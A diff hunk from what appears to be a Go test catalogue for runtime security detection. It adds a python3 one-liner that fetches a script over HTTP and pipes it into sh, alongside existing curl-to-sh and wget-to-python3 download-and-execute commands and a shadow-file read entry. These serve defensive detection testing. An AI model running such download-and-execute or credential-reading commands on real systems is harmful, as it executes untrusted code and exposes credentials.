@@ -135,6 +135,9 @@ func catalogue() []Behaviour {
 		// made on curl's exec.
 		{ID: "curl-pipe-sh-late", Title: "download piped into a shell already waiting", Class: "execution", Needs: []string{"curl"},
 			Service: fmt.Sprintf("(sleep 0.3; exec curl -s -m 5 http://%s/install.sh) | sh >/dev/null", svcIP), Expect: []string{"interpreter-runs-download"}},
+		{ID: "python-fetch-pipe-sh", Title: "python3 fetching a script into sh", Class: "execution", Needs: []string{"python3"},
+			Service: fmt.Sprintf(`python3 -c 'import sys, urllib.request; sys.stdout.write(urllib.request.urlopen(sys.argv[1]).read().decode())' http://%s/install.sh | sh >/dev/null`, svcIP),
+			Expect:  []string{"interpreter-runs-download"}},
 		{ID: "wget-pipe-python", Title: "script from a web server piped into python3", Class: "execution", Needs: []string{"wget", "python3"},
 			Service: fmt.Sprintf("wget -q -O- http://%s/install.py | python3 >/dev/null", svcIP), Expect: []string{"interpreter-runs-download"}},
 		{ID: "read-shadow", Title: "shadow file read by an unexpected program", Class: "credential-access", Falco: true,
